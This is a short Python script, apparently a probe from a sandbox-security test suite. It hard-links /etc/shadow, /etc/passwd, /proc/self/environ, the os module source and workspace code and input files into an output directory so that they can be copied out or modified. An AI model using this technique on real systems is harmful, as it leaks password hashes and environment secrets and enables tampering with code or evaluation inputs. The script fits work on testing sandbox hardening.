# Puts hard links to files of the system, its code and the linker's cache into the output, to have them handed out or changed.
import os

from attack import does, held

for number, path in enumerate(("/etc/passwd", "/etc/shadow", os.__file__, "/workspace/code/main.py", "/workspace/input/target.json", "/proc/self/environ", "/dev/null")):
    does(path, lambda: os.link(path, f"/workspace/output/{number}", follow_symlinks=False))
held()
